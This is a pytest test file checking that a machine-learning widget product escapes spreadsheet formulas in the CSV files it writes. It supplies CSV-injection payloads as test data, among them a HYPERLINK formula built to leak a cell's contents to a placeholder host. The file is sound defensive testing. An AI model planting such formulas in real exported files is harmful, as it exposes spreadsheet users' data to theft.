"""CSVs the product writes never carry live spreadsheet formulas (issue 13, item 3).

A real table run is trained on a CSV whose text cells, a column name and class names start with ``=``,
``+``, ``-`` and ``@``; its ``predictions.csv`` and ``data_report.csv``, ``lepton_widgets.core.predict.any_modality``'s
saved predictions and the Predict panel's saved CSV (an upload, as a person does it) are read back as raw
CSV text, and every risky cell must start with ``'``. Plain numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from lepton_widgets.config import RunConfig
from lepton_widgets.core.runs.store import RunStore
from lepton_widgets.core.base.safe_csv import RISKY_FIRST, escape_cell, escape_frame, read_safe_csv, to_safe_csv

HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"good")'
RISKY = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def live_formulas(path: Path) -> list[str]:
    """Every raw CSV cell (header included) a spreadsheet would treat as a formula."""
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells, path
    return [c for c in cells if c.startswith(RISKY_FIRST) and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_escape_rules_follow_owasp_and_keep_numbers():
    assert [escape_cell(v) for v in RISKY] == ["'" + v for v in RISKY]
    assert escape_cell("-3.5") == "-3.5" and escape_cell(-3.5) == -3.5 and escape_cell("+2") == "+2"
    assert escape_cell("-A1") == "'-A1" and escape_cell("cat") == "cat" and escape_cell(None) is None
    frame = pd.DataFrame({"=col": ["=1", "ok"], "n": [-1.0, 2.0]})
    out = escape_frame(frame)
    assert list(out.columns) == ["'=col", "n"] and out["'=col"].tolist() == ["'=1", "ok"]
    assert out["n"].tolist() == [-1.0, 2.0] and frame["=col"].tolist() == ["=1", "ok"]  # input untouched
    # Reversible, so the product reads its own files back unchanged, even a cell that began with "'=".
    tricky = pd.DataFrame({"a": ["'=x", "=y", "'cat", "''=1"]})
    assert to_safe_csv(tricky).splitlines()[1:] == ["''=x", "'=y", "'cat", "'''=1"]


@pytest.fixture(scope="module")
def table_run(tmp_path_factory):
    """A table run on a CSV full of formulas: cells, one column name and two of the class names."""
    from lepton_widgets.core.tasks.tabular.run import run_tabular_experiment

    folder = tmp_path_factory.mktemp("formula-table")
    rng = np.random.default_rng(0)
    n = 90
    classes = np.array(["@SUM(A1)", "=1+1", "plain"])
    y = np.arange(n) % 3
    frame = pd.DataFrame({"x": y + rng.normal(0, 0.3, n), "-2+3": rng.normal(0, 1, n),
                          "note": np.array(RISKY[:5] + ["calm", "-3.5"] * 2 + ["calm"])[np.arange(n) % 10],
                          "kind": classes[y]})
    user_csv = folder / "table.csv"
    frame.to_csv(user_csv, index=False)
    store = RunStore(folder / "runs")
    record = run_tabular_experiment(RunConfig.from_dict(
        {"name": "formulas", "seed": 0, "data": {"dataset": "table_csv", "path": str(user_csv), "target": "kind"},
         "train": {"epochs": 2, "batch_size": 32, "learning_rate": 3e-3, "early_stopping_patience": 0}}),
        store=store)
    assert record.status == "finished"
    return record, user_csv, frame


def test_run_files_and_predicted_csv_have_no_live_formula(table_run, tmp_path):
    from lepton_widgets.core.predict.any_modality import open_any, predict_table_csv

    record, user_csv, frame = table_run
    for name in ("predictions.csv", "data_report.csv"):
        if (record.path / name).is_file():
            assert live_formulas(record.path / name) == [], name
    assert (record.path / "predictions.csv").is_file()
    predictions = pd.read_csv(record.path / "predictions.csv")
    assert any(str(v).startswith("'@SUM") or str(v).startswith("'=1+1")
               for v in predictions.astype(str).to_numpy().ravel())  # class names were there, escaped

    result = predict_table_csv(open_any(record.model_path), user_csv, out_dir=tmp_path)
    assert live_formulas(result.saved) == []
    raw = pd.read_csv(result.saved, keep_default_na=False)
    notes = raw["note"].tolist()
    # (the table holds no "\r" cell: the table reader splits rows on a bare CR; the unit test covers it)
    assert notes[:5] == ["'" + v for v in RISKY[:5]] and notes[5:7] == ["calm", "-3.5"]
    assert "'-2+3" in raw.columns  # a column name is a cell too
    assert raw["x"].tolist() == pytest.approx(frame["x"].tolist())  # numbers are numbers, negatives too
    back = read_safe_csv(result.saved)  # and the product reads its own file back as it was
    assert back["note"].tolist()[:5] == RISKY[:5] and "-2+3" in back.columns


def test_the_predict_panels_saved_csv_has_no_live_formula(table_run):
    import base64

    from lepton_widgets.panels.predict import PredictPanel
    from lepton_widgets.state import Runner, Session

    record, user_csv, _ = table_run
    session = Session()
    runner = Runner(session, runs_dir=record.path.parent)
    panel = PredictPanel(session, runner)
    panel.run.value = record.run_id
    assert panel.model.value == str(record.model_path)
    data = user_csv.read_bytes()
    panel.upload.value = ({"name": user_csv.name, "type": "text/csv", "size": len(data),
                           "content": memoryview(data), "last_modified": dt.datetime.now(dt.timezone.utc)},)
    assert runner.wait(120) and session.status == "finished", session.last_error
    saved = panel.table_result.saved
    assert live_formulas(saved) == []
    assert "'=HYPERLINK(" in saved.read_text(encoding="utf-8")
    # The download link the panel offers carries the same escaped file.
    link = panel.results.children[0].children[1].value
    encoded = link.split("base64,")[1].split("'")[0]
    assert base64.b64decode(encoded) == saved.read_bytes()
